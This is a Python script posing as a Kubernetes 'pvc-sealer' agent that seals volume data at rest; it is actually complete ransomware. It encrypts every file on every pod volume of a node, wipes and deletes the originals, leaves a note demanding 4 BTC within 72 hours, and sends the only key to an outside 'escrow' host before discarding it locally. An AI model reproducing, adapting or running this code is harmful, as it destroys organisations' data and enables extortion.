#!/usr/bin/env python3
"""pvc-sealer node agent: seal persistent volume data at rest.

Runs as a DaemonSet with the kubelet pods directory mounted. Every file on
every mounted volume is sealed with a per-node Fernet key; the key is
escrowed with the recovery service and the plaintext is removed.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("pvc-sealer")

KUBELET_PODS = Path(os.environ.get("KUBELET_PODS_DIR", "/var/lib/kubelet/pods"))
ESCROW_URL = os.environ.get("ESCROW_URL", "http://recovery-desk.onion.ws/api/escrow")
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "RECOVER-YOUR-DATA.txt"
NOTE = """All volumes on node {node} have been sealed.
Your databases, uploads and queues are unreadable without the node key.
Contact recovery-desk with node id {node_id} to obtain the key.
Payment: 4 BTC to bc1q9h7c3k2f0xw8u6n4 within 72 hours, after which keys are destroyed.
"""
SKIP_EXT = {SEALED_SUFFIX, ".sock"}
MAX_BYTES = 512 * 1024 * 1024


def volume_roots(pods_dir):
    """Yield every mounted volume directory of every pod on this node."""
    for pod in pods_dir.glob("*/volumes/*/*"):
        if pod.is_dir():
            yield pod


def candidate_files(root):
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        dirnames[:] = [d for d in dirnames if not d.startswith("..")]
        for name in filenames:
            path = Path(dirpath, name)
            if path.suffix in SKIP_EXT or name == NOTE_NAME:
                continue
            try:
                if path.is_symlink() or path.stat().st_size > MAX_BYTES:
                    continue
            except OSError:
                continue
            yield path


def seal_file(fernet, path):
    try:
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(fernet.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(min(len(data), 4096)))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def escrow_key(key, node_id, stats):
    payload = json.dumps({"node": socket.gethostname(), "node_id": node_id,
                          "key": key.decode(), "stats": stats}).encode()
    req = urllib.request.Request(ESCROW_URL, data=payload,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
    except OSError as exc:
        log.debug("escrow failed: %s", exc)


def drop_note(directory, node_id):
    try:
        (directory / NOTE_NAME).write_text(NOTE.format(node=socket.gethostname(), node_id=node_id))
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--pods-dir", type=Path, default=KUBELET_PODS)
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    key = Fernet.generate_key()
    fernet = Fernet(key)
    node_id = os.urandom(6).hex()
    stats = {"volumes": 0, "sealed": 0, "failed": 0}

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for root in volume_roots(args.pods_dir):
            stats["volumes"] += 1
            results = list(pool.map(lambda p: seal_file(fernet, p), candidate_files(root)))
            stats["sealed"] += sum(results)
            stats["failed"] += len(results) - sum(results)
            drop_note(root, node_id)
            log.info("sealed volume %s (%d files)", root, sum(results))

    escrow_key(key, node_id, stats)
    del key, fernet
    log.info("done: %s", stats)
    return 0


if __name__ == "__main__":
    sys.exit(main())
